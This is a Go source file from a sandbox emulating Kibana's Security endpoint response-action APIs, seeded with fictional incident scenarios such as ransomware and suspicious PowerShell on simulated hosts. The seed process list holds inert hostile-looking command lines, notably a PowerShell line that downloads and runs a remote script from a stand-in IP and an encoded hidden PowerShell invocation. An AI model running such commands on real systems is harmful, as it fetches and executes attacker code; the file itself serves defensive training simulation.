package sandbox

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"time"
)

// The Security endpoint APIs: the hosts of a space that run an agent, the
// response actions sent to them (endpoint_actions.go), the files those
// actions bring back (endpoint_files.go) and the Elastic Endpoint exception
// list (endpoint_list.go, kept with the other space-agnostic exception
// lists).
//
// What the sandbox approximates:
//   - An action completes a few seconds after it was sent (sandbox clock),
//     or at the second read that sees it, whichever comes first: the first
//     read after sending shows it pending, as Kibana does while the agent
//     works. Its effects (isolation, killed processes, fetched files,
//     command output) happen at completion.
//   - Hosts are known by agent id whatever the agent_type asked for: the
//     sandbox does not model which EDR runs on which host.
//   - alert_ids and case_ids are recorded on the action; the cases are not
//     updated.
//   - Downloads are plain zips (Kibana's are protected with the password
//     elastic, which archive/zip cannot write).

// endpointState holds a space's endpoint data. Its zero value is an empty
// space: no hosts, no actions.
type endpointState struct {
	hosts     map[string]*epHost // by agent id
	hostOrder []string

	actions     map[string]*epAction // by action id
	actionOrder []string             // sending order

	notes map[string]string // protection updates notes by Defend integration policy id (endpoint_metadata.go)
}

// epHost is a host with an agent.
type epHost struct {
	agentID, name, os, osName, ip string
	resolver                      string // DNS server it uses
	isolated                      bool
	procs                         []*epProcess
	uploads                       map[string]bool // names of files put on it
}

// epProcess is a process running on a host.
type epProcess struct {
	pid               int
	entityID, command string
	user              string
	suspended         bool
}

func (st *endpointState) addHost(h *epHost) {
	if st.hosts == nil {
		st.hosts = map[string]*epHost{}
	}
	st.hosts[h.agentID] = h
	st.hostOrder = append(st.hostOrder, h.agentID)
}

func (st *endpointState) addAction(a *epAction) {
	if st.actions == nil {
		st.actions = map[string]*epAction{}
	}
	st.actions[a.id] = a
	st.actionOrder = append(st.actionOrder, a.id)
}

func (k *Kibana) endpointRoutes() []route {
	return []route{
		newRoute(http.MethodGet, "/api/endpoint/action", k.findEndpointActions),
		newRoute(http.MethodGet, "/api/endpoint/action/state", k.endpointActionState),
		newRoute(http.MethodGet, "/api/endpoint/action_status", k.endpointActionStatus),
		newRoute(http.MethodGet, "/api/endpoint/action/{action_id}", k.getEndpointAction),
		newRoute(http.MethodGet, "/api/endpoint/action/{action_id}/file/{file_id}", k.endpointFileInfo),
		newRoute(http.MethodGet, "/api/endpoint/action/{action_id}/file/{file_id}/download", k.endpointFileDownload),
		newRoute(http.MethodPost, "/api/endpoint/action/isolate", k.responseAction(epIsolate)),
		newRoute(http.MethodPost, "/api/endpoint/action/unisolate", k.responseAction(epUnisolate)),
		newRoute(http.MethodPost, "/api/endpoint/action/kill_process", k.responseAction(epKillProcess)),
		newRoute(http.MethodPost, "/api/endpoint/action/suspend_process", k.responseAction(epSuspendProcess)),
		newRoute(http.MethodPost, "/api/endpoint/action/running_procs", k.responseAction(epRunningProcesses)),
		newRoute(http.MethodPost, "/api/endpoint/action/get_file", k.responseAction(epGetFile)),
		newRoute(http.MethodPost, "/api/endpoint/action/execute", k.responseAction(epExecute)),
		newRoute(http.MethodPost, "/api/endpoint/action/scan", k.responseAction(epScan)),
		newRoute(http.MethodPost, "/api/endpoint/action/upload", k.responseAction(epUpload)),
		newRoute(http.MethodPost, "/api/endpoint/action/runscript", k.responseAction(epRunscript)),
		newRoute(http.MethodPost, "/api/endpoint/action/cancel", k.responseAction(epCancel)),
		newRoute(http.MethodGet, "/api/endpoint/metadata", k.getEndpointMetadataList),
		newRoute(http.MethodGet, "/api/endpoint/metadata/{id}", k.getEndpointMetadata),
		newRoute(http.MethodGet, "/api/endpoint/policy_response", k.getPolicyResponse),
		newRoute(http.MethodGet, "/api/endpoint/protection_updates_note/{package_policy_id}", k.getProtectionUpdatesNote),
		newRoute(http.MethodPost, "/api/endpoint/protection_updates_note/{package_policy_id}", k.setProtectionUpdatesNote),
		newRoute(http.MethodPost, "/api/endpoint_list", k.createEndpointList),
		newRoute(http.MethodGet, "/api/endpoint_list/items", k.getEndpointListItem),
		newRoute(http.MethodPost, "/api/endpoint_list/items", k.createEndpointListItem),
		newRoute(http.MethodPut, "/api/endpoint_list/items", k.updateEndpointListItem),
		newRoute(http.MethodDelete, "/api/endpoint_list/items", k.deleteEndpointListItem),
		newRoute(http.MethodGet, "/api/endpoint_list/items/_find", k.findEndpointListItems),
	}
}

// The agent ids the tools' examples use belong to two hosts of each seeded
// space, so that examples reach real hosts.
const (
	epExampleAgentA = "0d4a3c6e-8d1f-4b4e-9a55-2f5c8f1d7e10"
	epExampleAgentB = "5b8e2f1a-3c4d-4e6f-8a9b-0c1d2e3f4a5b"
)

// epEntityID makes a process entity id (base64 of a UUID, as Elastic
// Defend's are).
func epEntityID(k *Kibana) string {
	return base64.StdEncoding.EncodeToString([]byte(k.newID()))
}

// epSeedProc is a process of a seeded host.
type epSeedProc struct {
	pid           int
	command, user string
	entityID      string // "" for a made-up one
}

// epSeedHost is a host of the story.
type epSeedHost struct {
	agentID, name, os, osName, ip, resolver string
	isolated                                bool
	procs                                   []epSeedProc
}

// epStoryEntity is the entity id the tools' examples name: the suspicious
// PowerShell of the story.
const epStoryEntity = "ZTI1ZDAwYTQtYWE1Yi00ZDRiLWI3ODUtOTYwMGVmMjhmNjNm"

func epWindowsBase(extra ...epSeedProc) []epSeedProc {
	return append([]epSeedProc{
		{pid: 4, command: "System", user: "NT AUTHORITY\\SYSTEM"},
		{pid: 512, command: "C:\\Windows\\System32\\smss.exe", user: "NT AUTHORITY\\SYSTEM"},
		{pid: 668, command: "C:\\Windows\\System32\\lsass.exe", user: "NT AUTHORITY\\SYSTEM"},
		{pid: 912, command: "C:\\Windows\\System32\\svchost.exe -k netsvcs -p", user: "NT AUTHORITY\\SYSTEM"},
		{pid: 2280, command: "\"C:\\Program Files\\Elastic\\Endpoint\\elastic-endpoint.exe\" run", user: "NT AUTHORITY\\SYSTEM"},
	}, extra...)
}

func epLinuxBase(extra ...epSeedProc) []epSeedProc {
	return append([]epSeedProc{
		{pid: 1, command: "/sbin/init splash", user: "root"},
		{pid: 812, command: "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", user: "root"},
		{pid: 990, command: "/opt/Elastic/Endpoint/elastic-endpoint run", user: "root"},
	}, extra...)
}

// epSeedHosts are the hosts of each space's story: the ones its alerts and
// cases are about.
func epSeedHosts(spaceID string) []epSeedHost {
	if spaceID == "soc" {
		return []epSeedHost{
			{agentID: epExampleAgentA, name: "dc-02", os: "windows", osName: "Windows Server 2019 Datacenter", ip: "10.40.0.12", resolver: "10.40.0.53",
				procs: epWindowsBase(
					epSeedProc{pid: 1880, command: "C:\\Windows\\System32\\dns.exe", user: "NT AUTHORITY\\SYSTEM"},
					epSeedProc{pid: 2932, command: "C:\\Windows\\System32\\wbem\\wmiprvse.exe -secured -Embedding", user: "NT AUTHORITY\\NETWORK SERVICE"},
					epSeedProc{pid: 4321, command: "powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a.ps1')", user: "NORTHWIND\\svc-sql", entityID: epStoryEntity},
				)},
			{agentID: epExampleAgentB, name: "bkp-01", os: "windows", osName: "Windows Server 2022 Standard", ip: "10.40.2.12", resolver: "10.40.0.53", isolated: true,
				procs: epWindowsBase(
					epSeedProc{pid: 3344, command: "\"C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe\"", user: "NORTHWIND\\svc-backup"},
					epSeedProc{pid: 6120, command: "C:\\ProgramData\\svc-update\\rsync-helper.exe --encrypt D:\\Backups", user: "NORTHWIND\\svc-backup"},
				)},
			{name: "fin-ws-07", os: "windows", osName: "Windows 11 Pro", ip: "10.40.12.7", resolver: "10.40.0.53",
				procs: epWindowsBase(
					epSeedProc{pid: 3120, command: "C:\\Windows\\explorer.exe", user: "NORTHWIND\\l.martin"},
					epSeedProc{pid: 5240, command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", user: "NORTHWIND\\l.martin"},
					epSeedProc{pid: 6608, command: "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", user: "NORTHWIND\\l.martin"},
				)},
			{name: "portal-web-01", os: "linux", osName: "Ubuntu 22.04.4 LTS", ip: "10.40.1.20", resolver: "10.40.0.53",
				procs: epLinuxBase(
					epSeedProc{pid: 1402, command: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", user: "root"},
					epSeedProc{pid: 1577, command: "node /srv/portal/server.js", user: "portal"},
				)},
		}
	}
	return []epSeedHost{
		{agentID: epExampleAgentA, name: "ws-0142", os: "windows", osName: "Windows 11 Pro", ip: "10.20.6.142", resolver: "10.20.0.53",
			procs: epWindowsBase(
				epSeedProc{pid: 3120, command: "C:\\Windows\\explorer.exe", user: "ACME\\l.wong"},
				epSeedProc{pid: 5012, command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\l.wong\\Downloads\\Invoice_0423.docm\"", user: "ACME\\l.wong"},
				epSeedProc{pid: 4321, command: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", user: "ACME\\l.wong", entityID: epStoryEntity},
			)},
		{agentID: epExampleAgentB, name: "fs-02", os: "windows", osName: "Windows Server 2022 Standard", ip: "10.20.1.16", resolver: "10.20.0.53",
			procs: epWindowsBase(
				epSeedProc{pid: 1404, command: "C:\\Windows\\System32\\svchost.exe -k LanmanServer", user: "NT AUTHORITY\\SYSTEM"},
				epSeedProc{pid: 7712, command: "C:\\Users\\svc-backup\\AppData\\Local\\Temp\\svchost32.exe -p \\\\fs-02\\projects", user: "ACME\\svc-backup"},
			)},
		{name: "vpn-gw-01", os: "linux", osName: "Ubuntu 22.04.4 LTS", ip: "198.51.100.10", resolver: "10.20.0.53",
			procs: epLinuxBase(
				epSeedProc{pid: 1044, command: "/usr/sbin/openvpn --config /etc/openvpn/server.conf", user: "root"},
			)},
		{name: "build-03", os: "linux", osName: "Ubuntu 22.04.4 LTS", ip: "10.20.9.3", resolver: "10.20.0.53",
			procs: epLinuxBase(
				epSeedProc{pid: 2201, command: "java -jar /usr/share/jenkins/jenkins.war --httpPort=8080", user: "svc-build"},
				epSeedProc{pid: 4410, command: "/usr/local/bin/telemetry-sync --resolve t1.cdn-sync.net --interval 5", user: "svc-build"},
			)},
	}
}

// epSeedAction is an action of the story, sent some time ago.
type epSeedAction struct {
	ago        time.Duration
	host       int // index into the space's seed hosts
	command    string
	agentType  string
	user       string
	comment    string
	parameters map[string]any
	rule       int  // story rule behind an automated action, else -1
	expires    bool // never answered: expired
}

func epSeedActions(spaceID string) []epSeedAction {
	day := 24 * time.Hour
	if spaceID == "soc" {
		return []epSeedAction{
			{ago: 14*day + 3*time.Hour, host: 2, command: "running-processes", user: "rpatel", comment: "Looking for the tool making the TXT queries.", rule: -1},
			{ago: 3*day + 2*time.Hour, host: 1, command: "isolate", user: "elastic", rule: 2},
			{ago: 3*day + 90*time.Minute, host: 1, command: "get-file", user: "mchen", comment: "Renamed rclone binary for analysis.", parameters: map[string]any{"path": `C:\ProgramData\svc-update\svc-update.exe`}, rule: -1},
			{ago: 2*day + 5*time.Hour, host: 0, command: "execute", user: "mchen", comment: "Who talks to the download host?", parameters: map[string]any{"command": "netstat -ano", "timeout": 600}, rule: -1},
			{ago: 2*day + 4*time.Hour, host: 0, command: "running-processes", user: "mchen", comment: "What else runs as svc-sql?", rule: -1},
		}
	}
	return []epSeedAction{
		{ago: 35 * day, host: 2, command: "scan", user: "aokafor", comment: "Routine scan of the VPN appliance.", parameters: map[string]any{"path": "/etc/openvpn"}, rule: -1, expires: true},
		{ago: 20*day + 4*time.Hour, host: 1, command: "isolate", user: "elastic", rule: 2},
		{ago: 20*day + 3*time.Hour, host: 1, command: "get-file", user: "snovak", comment: "Ransom note for the IR report.", parameters: map[string]any{"path": `D:\Shares\projects\README_RESTORE.txt`}, rule: -1},
		{ago: 20*day + 2*time.Hour, host: 1, command: "kill-process", user: "snovak", comment: "Encryptor still running.", parameters: map[string]any{"pid": 7712}, rule: -1},
		{ago: 19 * day, host: 1, command: "unisolate", user: "snovak", comment: "Share restored from the 01:00 snapshot; releasing fs-02.", rule: -1},
		{ago: 5*day + 2*time.Hour, host: 0, command: "running-processes", user: "mchen", comment: "Triage of the encoded PowerShell.", rule: -1},
		{ago: 5*day + time.Hour, host: 0, command: "get-file", user: "mchen", comment: "Macro document for the sandbox.", parameters: map[string]any{"path": `C:\Users\l.wong\Downloads\Invoice_0423.docm`}, rule: -1},
		{ago: 20 * time.Hour, host: 3, command: "execute", user: "elastic", comment: "Which resolver does it use?", parameters: map[string]any{"command": "cat /etc/resolv.conf", "timeout": 60}, rule: -1},
	}
}

// seedEndpoint gives a space its hosts, the response actions of its story
// (completed, with their outputs and files) and its exception list.
func (k *Kibana) seedEndpoint(sp *space, rng *rand.Rand) {
	st := &sp.endpoint
	now := k.cfg.Now().UTC()
	var hosts []*epHost
	for _, sh := range epSeedHosts(sp.id) {
		h := &epHost{agentID: sh.agentID, name: sh.name, os: sh.os, osName: sh.osName, ip: sh.ip, resolver: sh.resolver}
		if h.agentID == "" {
			h.agentID = k.newID()
		}
		for _, p := range sh.procs {
			entity := p.entityID
			if entity == "" {
				entity = epEntityID(k)
			}
			h.procs = append(h.procs, &epProcess{pid: p.pid, entityID: entity, command: p.command, user: p.user})
		}
		st.addHost(h)
		hosts = append(hosts, h)
	}
	for _, sa := range epSeedActions(sp.id) {
		h := hosts[sa.host]
		agentType := sa.agentType
		if agentType == "" {
			agentType = "endpoint"
		}
		started := now.Add(-sa.ago).Add(-time.Duration(rng.IntN(600)) * time.Second).Truncate(time.Millisecond)
		a := &epAction{
			id: k.newID(), command: sa.command, agentType: agentType, createdBy: sa.user, comment: sa.comment,
			agents: []string{h.agentID}, hostNames: map[string]string{h.agentID: h.name},
			parameters: cfgCloneOrNil(sa.parameters), startedAt: started, typ: "manual",
		}
		if sa.rule >= 0 {
			a.typ, a.ruleID, a.ruleName = "automated", ruleIDIn(sp.id, sa.rule), storyRules[sa.rule].Name
		}
		a.dueAt = started.Add(epDelay(a))
		a.expiration = started.Add(epExpiry)
		st.addAction(a)
		if sa.expires {
			a.neverAnswers = true
			continue
		}
		k.completeAction(sp, a, a.dueAt.Add(time.Duration(rng.IntN(20))*time.Second))
	}
	// The story's hosts end in the state its cases tell of, whatever the
	// replayed actions did.
	for i, sh := range epSeedHosts(sp.id) {
		hosts[i].isolated = sh.isolated
	}
}

// cfgCloneOrNil deep-copies parameters, keeping nil as nil.
func cfgCloneOrNil(m map[string]any) map[string]any {
	if m == nil {
		return nil
	}
	return cfgClone(m)
}

// epHostsIn lists a space's hosts in seeding order.
func (st *endpointState) hostsInOrder() []*epHost {
	out := make([]*epHost, 0, len(st.hostOrder))
	for _, id := range st.hostOrder {
		out = append(out, st.hosts[id])
	}
	return out
}

// epStamp renders a time as Kibana does.
func epStamp(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

// epUnique drops repeated values, keeping the first of each.
func epUnique(list []string) []string {
	var out []string
	for _, s := range list {
		if !slices.Contains(out, s) {
			out = append(out, s)
		}
	}
	return out
}

// epTypeOf names a JSON value's type as kbn-config-schema's messages do.
func epTypeOf(v any) string {
	switch v.(type) {
	case nil:
		return "null"
	case string:
		return "string"
	case bool:
		return "boolean"
	case []any:
		return "Array"
	case map[string]any:
		return "Object"
	}
	return "number"
}

// epOneOfMessage is kbn-config-schema's message for a value outside a set
// of literals.
func epOneOfMessage(at string, allowed []string) string {
	msg := fmt.Sprintf("[%s]: types that failed validation:", at)
	for i, a := range allowed {
		msg += fmt.Sprintf("\n- [%s.%d]: expected value to equal [%s]", at, i, a)
	}
	return msg
}
